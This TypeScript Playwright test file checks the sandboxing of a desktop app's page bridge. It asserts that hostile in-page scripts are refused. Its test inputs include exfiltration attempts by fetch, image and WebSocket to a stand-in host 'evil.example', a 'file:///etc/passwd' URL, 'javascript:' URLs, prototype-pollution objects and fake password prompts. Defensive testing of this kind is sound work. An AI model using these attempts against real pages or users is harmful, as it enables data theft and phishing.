import { bridgeCalls, bridgeEvents } from "../../bridge.ts";
import { startChangingServer } from "../support/servers/changing-server.ts";
import { joinedMember } from "../support/members.ts";
import { pathOf, signInToApp } from "./app-actions.ts";
import { expect, test } from "./desktop-test.ts";

test("a hostile script in the page reaches only the named functions, which refuse invalid arguments", async ({ server, openApp }) => {
  const app = await openApp();
  await signInToApp(app.page, await joinedMember(server));

  const reached = await app.page.evaluate(() => ({
    names: Object.keys(window.glimmer).toSorted(),
    kinds: [...new Set(Object.values(window.glimmer).map((value) => typeof value))],
    globals: ["require", "process", "module", "Buffer", "electron", "ipcRenderer", "__hostInvoke"]
      .filter((name) => name in globalThis),
    isFrozen: Object.isFrozen(window.glimmer),
  }));
  expect(reached).toEqual({
    names: [...Object.keys(bridgeCalls), ...Object.keys(bridgeEvents)].toSorted(),
    kinds: ["function"],
    globals: [],
    isFrozen: true,
  });

  // Every call with every kind of argument it should not get.
  const refusals = await app.page.evaluate(async (names) => {
    const bad: unknown[][] = [
      [{ toString: "x" }, 1, 2],
      ["javascript:alert(1)", "extra"],
      [-1, null, []],
      [{ __proto__: { admin: true }, unknown: 1 }, "x"],
    ];
    const accepted: string[] = [];
    const messages = new Set<string>();
    for (const name of names) {
      for (const args of bad) {
        const call =
          (window.glimmer as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>)[name];
        await call?.(...args).then(
          () => accepted.push(`${name}(${JSON.stringify(args)})`),
          (error: Error) => messages.add(error.message.replace(/.*Error: (\w+) refused.*/s, "$1 refused")),
        );
      }
    }
    return { accepted, messages: [...messages].toSorted() };
  }, Object.keys(bridgeCalls));
  expect(refusals).toEqual({
    accepted: [],
    messages: Object.keys(bridgeCalls).map((name) => `${name} refused`).toSorted(),
  });

  // Addresses that only look right.
  const addresses = [
    "file:///etc/passwd",
    "javascript:alert(1)",
    "glimmer://post/1",
    "http://evil.example/",
    "https://user:pass@evil.example/",
    "smb://evil.example/share",
  ];
  for (const address of addresses) {
    await expect(app.page.evaluate((url) => window.glimmer.openExternal(url), address)).rejects.toThrow();
  }
  for (
    const address of [
      "https://evil.example/",
      "https://checkout.stripe.com.evil.example/",
      "https://x@checkout.stripe.com/",
    ]
  ) {
    await expect(app.page.evaluate((url) => window.glimmer.openCheckout(url), address)).rejects.toThrow(
      /payments/,
    );
  }
  expect(await app.ask("openedOutside")).toEqual([]);
  await app.page.evaluate(() => window.glimmer.openCheckout("https://checkout.stripe.com/c/pay/cs_test_1"));
  expect(await app.ask("openedOutside")).toEqual(["https://checkout.stripe.com/c/pay/cs_test_1"]);

  // Out of the page: nowhere. Links to https go to the system's browser.
  const left = await app.page.evaluate(async () => {
    const tries = {
      fetch: () => fetch("https://evil.example/steal", { method: "POST", body: "x" }),
      image: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = () => reject(new Error("refused"));
          image.src = "https://evil.example/pixel.png";
        }),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket("wss://evil.example/");
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error("refused"));
        }),
    };
    const got: string[] = [];
    for (const [name, run] of Object.entries(tries)) {
      await Promise.resolve().then(run).then(() => got.push(name), () => undefined);
    }
    const script = document.createElement("script");
    script.textContent = "window.wasRun = true";
    document.head.append(script);
    return { got, wasRun: "wasRun" in window };
  });
  expect(left.wasRun).toBe(false);
  expect(left.got).toEqual([]);

  const before = app.page.url();
  await app.page.evaluate(() => {
    window.open("https://elsewhere.example/window");
    location.href = "https://elsewhere.example/page";
  });
  await expect.poll(() => app.ask("openedOutside")).toEqual(expect.arrayContaining([
    "https://elsewhere.example/window",
    "https://elsewhere.example/page",
  ]));
  expect(app.page.url()).toBe(before);
  // The page that stayed still listens.
  await app.ask("openUrl", "glimmer://notifications");
  await expect.poll(() => pathOf(app.page)).toBe("/notifications");
  expect(
    (await app.ask("permissions")).filter(({ isGranted }) => isGranted).map(({ permission }) => permission),
  )
    .toEqual(["clipboard-sanitized-write"]);
  expect(app.output()).toContain("refused its arguments");
});

test("a hostile script cannot change the server without the member's consent", async ({ server, openApp }) => {
  const other = await startChangingServer(server.origin);
  const app = await openApp();
  const page = app.page;
  await signInToApp(page, await joinedMember(server));
  const findServerInUse = () => page.evaluate(async () => (await window.glimmer.describeApp()).serverAddress);
  const change = () => page.evaluate((address) => window.glimmer.changeServer(address), other.origin);

  const first = change();
  await expect.poll(() => app.ask("question")).toMatchObject({ message: "Use another server?" });
  expect((await app.ask("question"))?.detail).toContain(other.origin);
  // Asking again and again opens no second question.
  await change();
  expect(await findServerInUse()).toBe(server.origin);
  await app.ask("pressButton", "Cancel");
  await first;
  // Nor does asking again after a refusal.
  await change();
  expect(await app.ask("question")).toBeNull();
  expect(await findServerInUse()).toBe(server.origin);
  await app.restart();
  await expect(app.page.getByRole("banner")).toBeVisible();
  expect(new Set(other.asked)).toEqual(new Set(["/api/health"]));
  await other.stop();
});

test("a hostile script cannot open print or message dialogs, from any frame", async ({ openApp }) => {
  const { page } = await openApp();
  await page.getByRole("link", { name: "Sign In" }).waitFor();
  const ignored: string[] = [];
  page.on("console", (message) => {
    const [, name] = /Ignored call to '(\w+)\(\)'/.exec(message.text()) ?? [];
    if (name) ignored.push(name);
  });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.type());
    dialog.dismiss().catch(() => undefined);
  });
  await page.evaluate(() => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    window.print();
    frame.contentWindow?.print();
    document.execCommand("print");
    alert("Your session is over");
    confirm("Send your password again?");
    prompt("Password");
  });
  await expect.poll(() => ignored).toEqual(["print", "print", "print", "alert", "confirm", "prompt"]);
  expect(dialogs).toEqual([]);
});
